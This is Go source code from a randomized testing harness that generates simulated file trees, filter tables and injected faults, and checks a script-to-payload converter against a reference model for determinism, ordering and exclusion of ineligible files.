			r.logf("call %d %q :: source %q is neither a directory nor a regular file of the tree", i, sources, s)
			return
		}
		models = append(models, m)
	}
	r.afterEdit(models)
	if r.fs.limit > 0 {
		for _, m := range models {
			if m.isDir && m.parts > r.fs.limit {
				r.probes["eligible_files_exceed_fd_budget"]++
			}
		}
	}
	key := strings.Join(sources, "\x00")
	first := r.from(sources)
	r.logf("call %d %q -> %s%s", i, sources, first, r.errText(first))
	// the same call again (more often when replaying, so that a minimised
	// case of code that has become erratic still reproduces reliably)
	var odd []result
	for n := 1; n < r.reps; n++ {
		again := r.from(sources)
		if !same(first, again) {
			r.logf("call %d again -> %s%s", i, again, r.errText(again))
			r.violate(invSameEachCall, "two consecutive identical calls differ",
				"sources %q: first %s, later %s", sources, first, again)
			if len(odd) < 2 {
				odd = append(odd, again)
			}
		}
	}
	if old, ok := r.earlier[key]; ok && !same(old, first) {
		r.violate(invSameEachCall, "an identical later call differs",
			"sources %q: earlier %s, now %s", sources, old, first)
	}
	r.earlier[key] = first

	singlesOK := true
	var concat []byte
	if len(sources) > 1 {
		r.probes["multi_source_calls"]++
		for j, s := range sources {
			one := r.from([]string{s})
			r.logf("call %d source %d %q alone -> %s%s", i, j, s, one, r.errText(one))
			if v := r.judge([]string{s}, models[j:j+1], one, true); v || one.err != nil {
				singlesOK = false
			}
			if old, ok := r.earlier[s]; ok && !same(old, one) {
				r.violate(invSameEachCall, "an identical later call differs",
					"sources %q: earlier %s, now %s", []string{s}, old, one)
			}
			r.earlier[s] = one
			concat = append(concat, one.b...)
		}
	}
	// (with AddList every single result carries its own list function, so the
	// concatenation is only compared without it)
	r.judge(sources, models, first, singlesOK)
	for _, o := range odd {
		r.judge(sources, models, o, singlesOK)
	}
	if len(sources) > 1 && singlesOK && first.err == nil && !r.cfg.AddList {
		if !bytes.Equal(first.b, concat) {
			r.violate(invMultiOrder, "several sources are not the concatenation of the single results in the order given",
				"sources %q: got %s, the single results concatenated are %s", sources, clipq(first.b), clipq(concat))
		}
	}
}

func (r *run) errText(res result) string {
	if res.err == nil {
		return ""
	}
	return " err=" + fmt.Sprintf("%q", r.scrub(res.err.Error()))
}

func clipq(b []byte) string {
	if len(b) > 300 {
		return fmt.Sprintf("%q...(%d bytes)", b[:300], len(b))
	}
	return fmt.Sprintf("%q", b)
}

// judge compares one result with the reference; it returns true if it
// reported something.  singlesOK tells, for a call with several sources,
// whether every source on its own behaved.
func (r *run) judge(sources []string, models []*srcModel, res result, singlesOK bool) bool {
	before := r.hits
	var expected []byte
	mayFail, opaque, ambiguous := false, false, false
	parts, inel := 0, 0
	for _, m := range models {
		expected = append(expected, m.expected...)
		mayFail = mayFail || m.mayFail
		opaque = opaque || m.opaque
		ambiguous = ambiguous || m.ambiguous
		parts += m.parts
		for _, e := range m.entries {
			if e.ineligible() && !e.nested {
				inel++
			}
			if e.dot && e.match && !e.nested {
				r.probes["dot_matching_entry_seen"]++
				if e.rn == nil {
					r.probes["dangling_dot_matching_seen"]++
				}
			}
		}
		r.probes["newline_fixups"] += int64(m.fixups)
		r.probes["empty_parts"] += int64(m.empties)
		r.probes["several_patterns_match"] += int64(m.multi)
	}
	if opaque {
		r.probes["calls_with_real_perl_unjudged_content"]++
	}
	if ambiguous {
		r.probes["calls_with_ambiguous_symlink_unjudged"]++
	}
	if mayFail {
		r.probes["calls_with_fault_on_eligible"]++
	}
	if len(expected) > 0 && !opaque && !ambiguous && (parts >= 2 || inel >= 1 || len(sources) >= 2) {
		r.nontrivial = true
	}
	single := len(models) == 1 && !models[0].isDir
	if len(models) > 1 && !singlesOK {
		// every source has been judged on its own and at least one of them
		// misbehaves there: the combined call adds nothing
		return false
	}

	if res.pipeOpened {
		r.violate(invIneligFails, "named pipe is opened by the conversion",
			"sources %q: a named pipe of the directory was opened for reading (the call blocks until a writer shows up)", sources)
	}

	// ---- the call failed
	if res.err != nil {
		if mayFail {
			r.probes["faulted_calls_failed"]++
			return r.hits > before
		}
		if e := r.culprit(models, res.err.Error()); e != nil && e.ineligible() {
			inv := invIneligFails
			if e.dot {
				inv = invDotFails
			}
			r.violate(inv, e.class+" fails conversion", "sources %q: entry %q (%s) made the call fail: %s",
				sources, e.n.path, e.class, res.err)
		} else if single {
			sig := "single file without matching filter fails conversion"
			if models[0].matched {
				sig = "single file with matching filter fails conversion"
			}
			r.violate(invSingleFile, sig, "source %q: %s", sources[0], res.err)
		} else if e != nil {
			r.violate(invExact, "eligible file fails conversion without a fault", "sources %q: %s", sources, res.err)
		} else {
			r.violate(invExact, "conversion fails without a fault on an eligible file", "sources %q: %s", sources, res.err)
		}
		return r.hits > before
	}

	// ---- the call succeeded
	if mayFail {
		r.probes["faulted_calls_succeeded"]++
	}
	if opaque {
		return r.hits > before
	}
	// entries that must contribute nothing but show in the payload
	shown := false
	var flagged []*entryInfo
	for _, m := range models {
		for _, e := range m.entries {
			if e.ineligible() && r.included(e, res.b, expected) {
				flagged = append(flagged, e)
			}
		}
	}
	for _, e := range flagged {
		// a file and the links to it share the content token: of such a
		// group blame the names that match a pattern, if any does
		if !e.match {
			other := false
			for _, o := range flagged {
				if o != e && o.match && o.rn != nil && o.rn == e.rn {
					other = true
				}
			}
			if other {
				continue
			}
		}
		shown = true
		inv := invIneligIncl
		if e.dot && !e.nested {
			inv = invDotIncluded
		}
		r.violate(inv, e.class+" included in payload", "sources %q: entry %q (%s) shows in the payload %s",
			sources, e.n.path, e.class, clipq(res.b))
	}
	if ambiguous {
		return r.hits > before
	}
	ok := bytes.Equal(res.b, expected)
	if r.cfg.AddList {
		ok = bytes.HasPrefix(res.b, expected) && len(res.b) > len(expected)
	}
	if ok || shown {
		return r.hits > before
	}
	want := clipq(expected)
	switch {
	case mayFail:
		sig := "a faulted call succeeds with a wrong payload"
		for _, m := range models {
			if m.dirFault {
				sig = "a fault on the source directory itself yields a wrong payload"
			}
		}
		r.violate(invFaultWrong, sig, "sources %q: got %s want %s", sources, clipq(res.b), want)
	case single && models[0].matched:
		r.violate(invSingleFile, "single matching file: converted content differs", "source %q: got %s want %s", sources[0], clipq(res.b), want)
	case single:
		r.violate(invSingleFile, "single non-matching file is not passed through unchanged", "source %q: got %s want %s", sources[0], clipq(res.b), want)
	case len(models) > 1 && singlesOK:
		r.violate(invMultiOrder, "several sources are not the concatenation of the single results in the order given",
			"sources %q: got %s want %s", sources, clipq(res.b), want)
	default:
		r.violate(invExact, "payload differs from eligible files", "sources %q: got %s want %s", sources, clipq(res.b), want)
	}
	return r.hits > before
}

// culprit finds the top-level entry of a source directory whose path shows in
// the error text (file names are data of the case; the longest one wins).
func (r *run) culprit(models []*srcModel, text string) *entryInfo {
	var best *entryInfo
	bestLen := -1
	for _, m := range models {
		if !m.isDir {
			continue
		}
		for _, e := range m.entries {
			if e.nested {
				continue
			}
			p := path.Join(m.src, e.name)
			if strings.Contains(text, p) && len(p) > bestLen {
				best, bestLen = e, len(p)
			}
		}
	}
	return best
}
