package fssim

import (
	"fmt"
	"path"
	"strings"

	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

var (
	stems = []string{"a", "b", "c", "ab", "A", "B", "fn", "x y", " lead", "trail ", "a*b", "*", "q?", "?",
		"[ab]", "[a", "a]", "[", "]", "[!a]", "ü", "日本語", "é", "é", "a\\b", "\\", "a\nb", "-rf", "a.b",
		"Makefile", "README", "core", "a'b", "a\"b", "$HOME", "a;b", "%s", "{a,b}", "~", "#", "a#", "a b c"}
	exts = []string{".sh", ".sh", ".sh", ".pl", ".pl", ".subr", ".txt", ".s1", ".sx", ".sh.pl", ".pl.sh", ".SH",
		".Sh", ".subr.bak", ".bak", "", "", ".md", ".sh ", ".p", ".shh", ".class", ".plx", ".s"}
	dotNames = []string{".hidden.sh", ".#lock.sh", "..sh", ".sh", ".pl", ".subr", "...", ".git", ".profile",
		"..a.sh", ".a.sh.swp", ".#a.sh", ".#b.pl", ".x.pl", ".lib.subr", ".DS_Store", ". .sh", ".*.sh", ".txt"}
	extraPatterns = []string{"*.txt", "a*", "*.s?", "[ab]*.sh", "*", "*.sh.pl", "?.sh", "*.p[lm]", "[!.]*",
		"*~", "#*#", ".*", "* *", `\**`, "*[[]*", "*.SH", "*.s*", "[a-c].sh", "*.pl.sh", "??*", "*.sh ", ".*.sh", "*b*"}
	danglingTargets = []string{"nowhere", "user@host.1234:1700000000", "../gone", "sub/missing", "./x/y/z", "a.sh.missing"}
)

type gen struct {
	rng     *simkit.RNG
	tab     *table
	noDot   bool
	danglOK bool
	metaSrc bool
	// single-file sources only under names that match a pattern
	matchSingle bool
	real        bool
	acts        []Action
	tok         int
	used        map[string]bool
	files       []string // regular files created so far (paths)
	dirs        []string
}

func pick[T any](g *gen, xs []T) T { return xs[g.rng.Intn(len(xs))] }

func generate(job *simkit.Job, rng *simkit.RNG) (Config, []Action) {
	g := &gen{rng: rng, used: map[string]bool{}, noDot: arg(job, "no_dot"), danglOK: arg(job, "dangling_match"),
		metaSrc: arg(job, "meta_source_dir"), matchSingle: arg(job, "match_single")}
	cfg := Config{Base: "default"}
	cfg.Real = rng.Chance(1, 8)
	g.real = cfg.Real
	if !cfg.Real {
		cfg.Iface = []string{"bare", "full", "full", "glob"}[rng.Intn(4)]
	}
	cfg.AddList = rng.Chance(1, 8)

	// ---- the filter table
	kindOf := func() string {
		switch x := rng.Intn(100); {
		case x < 75:
			return fkMark
		case x < 90:
			return fkPass
		}
		return fkDrop
	}
	seenPat := map[string]bool{}
	switch x := rng.Intn(100); {
	case x < 5:
		cfg.Base = "zero"
	case x < 25:
		// the real default table, perhaps with one entry removed and a user pattern added
		if rng.Chance(1, 4) {
			p := []string{"*.pl", "*.sh", "*.subr"}[rng.Intn(3)]
			cfg.Table = append(cfg.Table, FilterOp{P: p, K: fkDel})
			seenPat[p] = true
		}
		if rng.Chance(1, 3) {
			p := pick(g, extraPatterns)
			cfg.Table = append(cfg.Table, FilterOp{P: p, K: kindOf()})
		}
	default:
		for _, p := range []string{"*.pl", "*.sh", "*.subr"} {
			switch y := rng.Intn(100); {
			case y < 70:
				cfg.Table = append(cfg.Table, FilterOp{P: p, K: fkMark})
			case y < 80:
				cfg.Table = append(cfg.Table, FilterOp{P: p, K: fkPass})
			case y < 90:
				cfg.Table = append(cfg.Table, FilterOp{P: p, K: fkDel})
			case p == "*.pl":
				cfg.Table = append(cfg.Table, FilterOp{P: p, K: fkMark})
			}
			seenPat[p] = true
		}
		for n := rng.Intn(5); n > 0; n-- {
			p := pick(g, extraPatterns)
			if seenPat[p] {
				continue
			}
			seenPat[p] = true
			cfg.Table = append(cfg.Table, FilterOp{P: p, K: kindOf()})
		}
	}
	g.tab, _ = newTable(cfg)
	initial := g.tab

	// ---- edits of the table between the calls (the tree is generated against
	// every pattern the table ever holds, so that what the quantifier leaves
	// out - links under eligible names - stays out after an edit as well)
	var edits []FilterOp
	if cfg.Base != "zero" && rng.Chance(1, 3) {
		cur, _ := newTable(cfg)
		union, _ := newTable(cfg)
		for n := 1 + rng.Intn(3); n > 0; n-- {
			var op FilterOp
			switch x := rng.Intn(100); {
			case x < 45 && len(cur.pats) > 0:
				op = FilterOp{P: cur.pats[rng.Intn(len(cur.pats))], K: fkDel}
			case x < 70 && len(cur.pats) > 0:
				op = FilterOp{P: cur.pats[rng.Intn(len(cur.pats))], K: kindOf()}
			case x < 75:
				op = FilterOp{P: pick(g, extraPatterns), K: fkDel}
			case x < 85:
				op = FilterOp{P: []string{"*.pl", "*.sh", "*.subr"}[rng.Intn(3)], K: kindOf()}
			default:
				op = FilterOp{P: pick(g, extraPatterns), K: kindOf()}
			}
			_ = cur.apply(op)
			cur.resort()
			if op.K != fkDel {
				_ = union.apply(op)
			}
			edits = append(edits, op)
		}
		union.resort()
		g.tab = union
	}

	// ---- the tree
	top := "d"
	if cfg.Real && rng.Chance(1, 4) {
		top = pick(g, []string{"d [1]*", "d.sh", "dé", "d?", "D"})
	}
	g.dirs = append(g.dirs, top)
	g.acts = append(g.acts, Action{Op: kDir, Name: top})
	g.used[top] = true
	// single files next to the directory
	for n := rng.Intn(4); n > 0; n-- {
		name := pick(g, []string{"s.sh", "lib.subr", "tool.pl", "notes.txt", "x y.sh", "noext", "s[1].sh", "S.SH", "a.sh", ".rc.sh", "m.sh.pl", "z*"})
		if g.noDot && strings.HasPrefix(name, ".") {
			continue
		}
		if g.used[name] {
			continue
		}
		g.file(name)
	}
	nTop := []int{0, 1, 2, 3, 4, 5, 6, 8, 10, 12, 16}[rng.Intn(11)]
	g.fill(top, nTop, 0)
	// a descriptor budget, and more eligible files than it allows to be open
	// at the same time
	if !cfg.Real && rng.Chance(1, 6) {
		cfg.FDLimit = []int{8, 12, 16}[rng.Intn(3)]
		var extsHere []string
		for _, p := range initial.pats {
			if strings.HasPrefix(p, "*.") && !strings.ContainsAny(p[2:], "*?[\\") {
				extsHere = append(extsHere, p[1:])
			}
		}
		if len(extsHere) == 0 {
			extsHere = []string{".sh"}
		}
		for k, n := 0, cfg.FDLimit+1+rng.Intn(2*cfg.FDLimit); k < n; k++ {
			p := fmt.Sprintf("%s/m%03d%s", top, k, pick(g, extsHere))
			if !g.used[p] {
				g.file(p)
			}
		}
	}

	// ---- faults
	if !cfg.Real && rng.Chance(1, 2) {
		var names []string
		for k := range g.used {
			names = append(names, k)
		}
		names = sortStrings(names)
		isDir := map[string]bool{}
		for _, d := range g.dirs {
			isDir[d] = true
		}
		for n := 1 + rng.Intn(3); n > 0 && len(names) > 0; n-- {
			name := names[rng.Intn(len(names))]
			if name == top && !arg(job, "dir_faults") {
				continue
			}
			kind := []string{fStat, fOpen, fRead, fShort, fShort}[rng.Intn(5)]
			// fs.Glob ignores errors of reading a directory, so an unreadable
			// source directory gives an empty payload; the property speaks of
			// entries, not of the directory itself: off unless asked for
			if isDir[name] && (kind == fOpen || kind == fRead) && !arg(job, "dir_faults") {
				kind = fStat
			}
			k := 0
			switch kind {
			case fRead:
				k = []int{0, 1, 2, 5, 17, 100, 511, 512, 513, 3000}[rng.Intn(10)]
			case fShort:
				k = 1 + rng.Intn(7)
			}
			g.acts = append(g.acts, Action{Op: "fault", Name: name, Kind: kind, K: k})
		}
	}

	// ---- calls, edits of the table between them, overlapping calls
	sources := func() []string {
		var srcs []string
		switch x := rng.Intn(100); {
		case x < 55:
			srcs = []string{top}
		case x < 72:
			srcs = []string{g.anySource(top, 70)}
		case x < 92:
			for m := 2 + rng.Intn(2); m > 0; m-- {
				srcs = append(srcs, g.anySource(top, 40))
			}
		case !cfg.Real && x < 95:
			srcs = []string{"."}
		default:
			srcs = []string{g.anySource(top, 0)}
		}
		return srcs
	}
	nCalls := 1 + rng.Intn(3)
	if len(edits) > 0 && nCalls < 2 {
		nCalls = 2 + rng.Intn(2)
	}
	for k := 0; k < nCalls; k++ {
		if k > 0 && len(edits) > 0 {
			m := 1 + rng.Intn(len(edits))
			if k == nCalls-1 {
				m = len(edits)
			}
			for _, op := range edits[:m] {
				op := op
				g.acts = append(g.acts, Action{Op: "filter", Filter: &op})
			}
			edits = edits[m:]
		}
		srcs := sources()
		if cfg.Real || !rng.Chance(1, 4) {
			g.acts = append(g.acts, Action{Op: "call", Sources: srcs})
			continue
		}
		a := Action{Op: "overlap", Legs: []Leg{{Sources: srcs, Park: 1 + rng.Intn(1000)}}}
		for m := 1 + rng.Intn(5)/4; m > 0; m-- {
			l := Leg{Sources: sources()}
			if rng.Chance(1, 2) {
				l.Park = 1 + rng.Intn(1000)
			}
			a.Legs = append(a.Legs, l)
		}
		for j := range a.Legs {
			a.Release = append(a.Release, j)
		}
		rng.Shuffle(len(a.Release), func(i, j int) { a.Release[i], a.Release[j] = a.Release[j], a.Release[i] })
		g.acts = append(g.acts, a)
	}
	return cfg, g.acts
}

func sortStrings(s []string) []string {
	m := map[string]bool{}
	for _, x := range s {
		m[x] = true
	}
	return simkit.SortedKeys(m)
}

// anySource picks a regular file (pFile percent of the time, if there is one)
// or a directory.
func (g *gen) anySource(top string, pFile int) string {
	if len(g.files) > 0 && g.rng.Intn(100) < pFile {
		f := g.files[g.rng.Intn(len(g.files))]
		if !g.matchSingle || g.tab.matches(path.Base(f)) > 0 {
			return f
		}
	}
	if g.rng.Chance(2, 3) {
		return top
	}
	d := g.dirs[g.rng.Intn(len(g.dirs))]
	// Through the FS seam the library globs "<source>/<pattern>" (fs.Sub), so a
	// source directory whose own path holds a glob metacharacter is a different
	// question from the one the property asks (names *in* the directory); such
	// directories are sources only on the real tree, where os.DirFS is rooted
	// at the directory.
	if !g.real && !g.metaSrc && strings.ContainsAny(d, "*?[\\") {
		return top
	}
	return d
}

func (g *gen) content() string {
	g.tok++
	tok := fmt.Sprintf("tk%04dz", g.tok)
	switch x := g.rng.Intn(100); {
	case x < 6:
		return ""
	case x < 10:
		return "\n"
	case x < 14:
		return "\n\n"
	case x < 26:
		return "# " + tok // no trailing newline
	case x < 34:
		return "# " + tok + "\nf() { :; }" // several lines, no trailing newline
	case x < 44:
		return "# " + tok + "\n# TABDOC: fn" + fmt.Sprint(g.tok) + " does a thing\nfn" + fmt.Sprint(g.tok) + "() { echo 'x'; }\n"
	case x < 50:
		return "# " + tok + "\r\nf() { :; }\r\n"
	case x < 56:
		// large: beyond any single read
		return "# " + tok + "\n" + strings.Repeat("echo 0123456789 abcdefghijklmnopqrstuvwxyz\n", 20+g.rng.Intn(200))
	case x < 60:
		return "# " + tok + "\n" + strings.Repeat("x", 511+g.rng.Intn(3))
	case x < 64:
		return "#!/usr/bin/perl\n# " + tok + "\nprint \"hi\\n\";\n"
	case x < 68:
		return "# " + tok + " ü 日本語 <F[*.sh]> 'q' \"d\" \\ \t end\n"
	}
	return "# " + tok + "\nf" + fmt.Sprint(g.tok) + "() { date; }\n"
}

func (g *gen) file(p string) {
	g.used[p] = true
	g.files = append(g.files, p)
	g.acts = append(g.acts, Action{Op: kFile, Name: p, Data: g.content()})
}

func (g *gen) baseName(existing []string) string {
	r := g.rng
	for {
		var n string
		switch x := r.Intn(100); {
		case x < 48:
			n = pick(g, stems) + pick(g, exts)
		case x < 63:
			if g.noDot {
				continue
			}
			switch r.Intn(4) {
			case 0:
				n = "." + pick(g, stems) + pick(g, exts)
			case 1:
				n = ".#" + pick(g, stems) + pick(g, exts)
			default:
				n = pick(g, dotNames)
			}
		case x < 73:
			b := pick(g, stems) + pick(g, exts)
			switch r.Intn(5) {
			case 0:
				n = b + "~"
			case 1:
				n = "#" + b + "#"
			case 2:
				n = b + ".orig"
			case 3:
				n = "4913"
			default:
				n = b + ".swp"
			}
		case x < 78:
			unit := pick(g, []string{"a", "ü", "*", "ab ", "["})
			ext := pick(g, exts)
			n = strings.Repeat(unit, (200+r.Intn(40)-len(ext))/len(unit)) + ext
		case x < 90:
			if len(existing) == 0 {
				continue
			}
			b := existing[r.Intn(len(existing))]
			switch r.Intn(6) {
			case 0:
				n = strings.ToUpper(b)
			case 1:
				n = strings.ToLower(b)
			case 2:
				n = b + " "
			case 3:
				n = b + ".sh"
			case 4:
				n = b + ".pl"
			default:
				n = b[:len(b)/2+1]
			}
		default:
			n = pick(g, stems) + pick(g, exts) + pick(g, exts)
		}
		if g.noDot && strings.HasPrefix(n, ".") {
			continue
		}
		if !validName(n) || len(n) > 250 || strings.Contains(n, "/") {
			continue
		}
		return n
	}
}

// fill creates n entries in dir.
func (g *gen) fill(dir string, n int, depth int) {
	r := g.rng
	var here []string
	for ; n > 0; n-- {
		base := g.baseName(here)
		p := dir + "/" + base
		if g.used[p] {
			continue
		}
		dot := strings.HasPrefix(base, ".")
		match := g.tab.matches(base) > 0
		kind := ""
		switch x := r.Intn(100); {
		case x < 62:
			kind = kFile
		case x < 72:
			kind = kDir
		case x < 82:
			kind = "dangling"
		case x < 91:
			kind = "link"
		case x < 94:
			kind = "linkdir"
		default:
			kind = kPipe
		}
		// the statement's quantifier has dangling links only among dot-files
		// and non-matching names; a valid link to a regular file under an
		// eligible name is not judged, so it is not generated either
		if (kind == "dangling" && !g.danglOK || kind == "link") && !dot && match {
			if g.noDot || r.Chance(1, 2) {
				kind = kFile
			} else {
				base = ".#" + base
				if len(base) > 250 {
					base = base[:240]
				}
				p = dir + "/" + base
				if g.used[p] || !validName(base) {
					continue
				}
			}
		}
		here = append(here, base)
		switch kind {
		case kFile:
			g.file(p)
		case kPipe:
			g.used[p] = true
			g.tok++
			g.acts = append(g.acts, Action{Op: kPipe, Name: p, Data: fmt.Sprintf("# tk%04dz from a pipe\n", g.tok)})
		case kDir:
			g.used[p] = true
			g.dirs = append(g.dirs, p)
			g.acts = append(g.acts, Action{Op: kDir, Name: p})
			if depth < 2 {
				g.fill(p, r.Intn(4), depth+1)
			}
		case "dangling":
			g.used[p] = true
			g.acts = append(g.acts, Action{Op: kSymlink, Name: p, Target: pick(g, danglingTargets)})
		case "link":
			if len(g.files) == 0 {
				g.file(p)
				continue
			}
			g.used[p] = true
			g.acts = append(g.acts, Action{Op: kSymlink, Name: p, Target: relTarget(dir, g.files[r.Intn(len(g.files))])})
		case "linkdir":
			g.used[p] = true
			g.acts = append(g.acts, Action{Op: kSymlink, Name: p, Target: relTarget(dir, g.dirs[r.Intn(len(g.dirs))])})
		}
	}
}

// relTarget is the link text that leads from directory dir to path to.
func relTarget(dir, to string) string {
	if strings.HasPrefix(to, dir+"/") {
		return to[len(dir)+1:]
	}
	if to == dir {
		return "."
	}
	up := strings.Repeat("../", strings.Count(dir, "/")+1)
	return path.Clean(up + to)
}
