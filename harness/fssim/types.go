package fssim

import (
	"fmt"
	"io/fs"
	"path"
	"sort"
	"strings"
)

// FilterOp is one SetFilter call made on the converter before the run.
type FilterOp struct {
	P string `json:"p"` // pattern
	K string `json:"k"` // mark | pass | drop | del
}

// Filter kinds of the model's table.
const (
	fkMark     = "mark"     // "<F[pattern]:base name>" + content
	fkPass     = "pass"     // content unchanged (own implementation)
	fkDrop     = "drop"     // nothing
	fkDel      = "del"      // SetFilter(p, nil)
	fkRealSh   = "realsh"   // the repository's FromShell (defaults only)
	fkRealPerl = "realperl" // the repository's FromPerl (defaults only)
)

// Config is what is fixed in a case.
type Config struct {
	Base    string     `json:"base"`            // "default": NewDefaultConverter(); "zero": &Converter{}
	Table   []FilterOp `json:"table,omitempty"` // applied in order
	AddList bool       `json:"add_list,omitempty"`
	Iface   string     `json:"iface,omitempty"` // bare | full | glob: which optional fs interfaces the simulated FS offers
	Real    bool       `json:"real,omitempty"`  // materialise in a real directory and use FS == nil
}

// Action is one independent item of a case: a tree entry, a fault or a call.
type Action struct {
	Op      string   `json:"op"` // file | dir | symlink | pipe | fault | call
	Name    string   `json:"name,omitempty"`
	Data    string   `json:"data,omitempty"`
	Target  string   `json:"target,omitempty"`
	Kind    string   `json:"kind,omitempty"` // fault kind
	K       int      `json:"k,omitempty"`
	Sources []string `json:"sources,omitempty"`
}

func (a Action) String() string {
	switch a.Op {
	case kFile, kPipe:
		return fmt.Sprintf("%s %q len=%d", a.Op, a.Name, len(a.Data))
	case kDir:
		return fmt.Sprintf("dir %q", a.Name)
	case kSymlink:
		return fmt.Sprintf("symlink %q -> %q", a.Name, a.Target)
	case "fault":
		return fmt.Sprintf("fault %q %s k=%d", a.Name, a.Kind, a.K)
	case "call":
		return fmt.Sprintf("call %q", a.Sources)
	}
	return fmt.Sprintf("?%s %q", a.Op, a.Name)
}

// ---- the model's filter table -------------------------------------------

type table struct {
	kind map[string]string
	pats []string // sorted
}

func newTable(cfg Config) (*table, error) {
	t := &table{kind: map[string]string{}}
	switch cfg.Base {
	case "default":
		t.kind["*.pl"] = fkRealPerl
		t.kind["*.sh"] = fkRealSh
		t.kind["*.subr"] = fkRealSh
	case "zero":
		if len(cfg.Table) != 0 {
			return nil, fmt.Errorf("a zero converter takes no table operations")
		}
	default:
		return nil, fmt.Errorf("unknown base %q", cfg.Base)
	}
	for _, op := range cfg.Table {
		if _, err := path.Match(op.P, ""); err != nil || strings.Contains(op.P, "/") || op.P == "" {
			return nil, fmt.Errorf("pattern %q not usable", op.P)
		}
		switch op.K {
		case fkDel:
			delete(t.kind, op.P)
		case fkMark, fkPass, fkDrop:
			t.kind[op.P] = op.K
		default:
			return nil, fmt.Errorf("unknown filter kind %q", op.K)
		}
	}
	for p := range t.kind {
		t.pats = append(t.pats, p)
	}
	sort.Strings(t.pats)
	return t, nil
}

// first returns the first pattern (in sorted order) that matches name.
func (t *table) first(name string) (string, bool) {
	for _, p := range t.pats {
		if ok, _ := path.Match(p, name); ok {
			return p, true
		}
	}
	return "", false
}

// distinctMatches is the number of patterns matching name.
func (t *table) matches(name string) int {
	n := 0
	for _, p := range t.pats {
		if ok, _ := path.Match(p, name); ok {
			n++
		}
	}
	return n
}

func markOut(pattern, name string, content []byte) []byte {
	return append([]byte("<F["+pattern+"]:"+path.Base(name)+">"), content...)
}

// ---- building the tree from the actions -----------------------------------

func validName(p string) bool {
	if !fs.ValidPath(p) || p == "." {
		return false
	}
	for _, el := range strings.Split(p, "/") {
		if len(el) > 255 || strings.ContainsRune(el, 0) {
			return false
		}
	}
	return true
}

// add inserts an entry; missing parents become directories (so that deleting
// a "dir" item of a case leaves its children meaningful).  It returns false
// when the entry cannot be added (duplicate, parent not a directory).
func (s *simFS) add(p string, n *node) bool {
	if !validName(p) {
		return false
	}
	cur := s.root
	parts := strings.Split(p, "/")
	for i, el := range parts[:len(parts)-1] {
		child := cur.children[el]
		if child == nil {
			child = &node{kind: kDir, name: el, path: strings.Join(parts[:i+1], "/"),
				children: map[string]*node{}, idx: -1}
			cur.children[el] = child
		}
		if child.kind != kDir {
			return false
		}
		cur = child
	}
	base := parts[len(parts)-1]
	if old := cur.children[base]; old != nil {
		// an explicit "dir" item for a directory that a child created already
		if old.kind == kDir && n.kind == kDir && old.idx == -1 {
			old.idx = n.idx
			return true
		}
		return false
	}
	n.name, n.path = base, p
	if n.kind == kDir {
		n.children = map[string]*node{}
	}
	cur.children[base] = n
	return true
}

func sortedChildren(n *node) []*node {
	names := make([]string, 0, len(n.children))
	for k := range n.children {
		names = append(names, k)
	}
	sort.Strings(names)
	out := make([]*node, 0, len(names))
	for _, k := range names {
		out = append(out, n.children[k])
	}
	return out
}
