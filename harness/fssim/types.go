package fssim

import (
	"fmt"
	"io/fs"
	"path"
	"sort"
	"strings"
)

// FilterOp is one SetFilter call made on the converter before the run.
type FilterOp struct {
	P string `json:"p"` // pattern
	K string `json:"k"` // mark | pass | drop | del
}

// Filter kinds of the model's table.
const (
	fkMark     = "mark"     // "<F[pattern]:base name>" + content
	fkPass     = "pass"     // content unchanged (own implementation)
	fkDrop     = "drop"     // nothing
	fkDel      = "del"      // SetFilter(p, nil)
	fkRealSh   = "realsh"   // the repository's FromShell (defaults only)
	fkRealPerl = "realperl" // the repository's FromPerl (defaults only)
)

// Config is what is fixed in a case.
type Config struct {
	Base    string     `json:"base"`            // "default": NewDefaultConverter(); "zero": &Converter{}
	Table   []FilterOp `json:"table,omitempty"` // applied in order
	AddList bool       `json:"add_list,omitempty"`
	Iface   string     `json:"iface,omitempty"` // bare | full | glob: which optional fs interfaces the simulated FS offers
	Real    bool       `json:"real,omitempty"`  // materialise in a real directory and use FS == nil
	// FDLimit is the descriptor budget of the simulated FS: Open fails with
	// EMFILE while that many handles are open at the same time (0: no budget).
	FDLimit int `json:"fd_limit,omitempty"`
}

// Leg is one of the calls of an "overlap" item.
type Leg struct {
	Sources []string `json:"sources"`
	// Park > 0: the call is held inside the simulated FS at its operation
	// number 1 + (Park-1) mod N, N being the number of FS operations the same
	// call makes when it runs alone; 0: it runs through.
	Park int `json:"park,omitempty"`
}

// Action is one independent item of a case: a tree entry, a fault or a call.
type Action struct {
	Op      string   `json:"op"` // file | dir | symlink | pipe | fault | call | filter | overlap
	Name    string   `json:"name,omitempty"`
	Data    string   `json:"data,omitempty"`
	Target  string   `json:"target,omitempty"`
	Kind    string   `json:"kind,omitempty"` // fault kind
	K       int      `json:"k,omitempty"`
	Sources []string `json:"sources,omitempty"`
	// "filter": one SetFilter call made between the From calls
	Filter *FilterOp `json:"filter,omitempty"`
	// "overlap": From calls on the one converter that overlap in time.  The
	// legs are started in order, each running until it parks or returns; then
	// the parked ones are let go one at a time in the order of Release (those
	// not named there follow in leg order).
	Legs    []Leg `json:"legs,omitempty"`
	Release []int `json:"release,omitempty"`
}

func (a Action) String() string {
	switch a.Op {
	case kFile, kPipe:
		return fmt.Sprintf("%s %q len=%d", a.Op, a.Name, len(a.Data))
	case kDir:
		return fmt.Sprintf("dir %q", a.Name)
	case kSymlink:
		return fmt.Sprintf("symlink %q -> %q", a.Name, a.Target)
	case "fault":
		return fmt.Sprintf("fault %q %s k=%d", a.Name, a.Kind, a.K)
	case "call":
		return fmt.Sprintf("call %q", a.Sources)
	case "filter":
		if a.Filter == nil {
			return "filter ?"
		}
		return fmt.Sprintf("filter %q=%s", a.Filter.P, a.Filter.K)
	case "overlap":
		var sb strings.Builder
		for i, l := range a.Legs {
			fmt.Fprintf(&sb, " leg%d=%q park=%d", i, l.Sources, l.Park)
		}
		return fmt.Sprintf("overlap%s release=%v", sb.String(), a.Release)
	}
	return fmt.Sprintf("?%s %q", a.Op, a.Name)
}

// ---- the model's filter table -------------------------------------------

type table struct {
	kind map[string]string
	pats []string // sorted
}

func newTable(cfg Config) (*table, error) {
	t := &table{kind: map[string]string{}}
	switch cfg.Base {
	case "default":
		t.kind["*.pl"] = fkRealPerl
		t.kind["*.sh"] = fkRealSh
		t.kind["*.subr"] = fkRealSh
	case "zero":
		if len(cfg.Table) != 0 {
			return nil, fmt.Errorf("a zero converter takes no table operations")
		}
	default:
		return nil, fmt.Errorf("unknown base %q", cfg.Base)
	}
	for _, op := range cfg.Table {
		if err := t.apply(op); err != nil {
			return nil, err
		}
	}
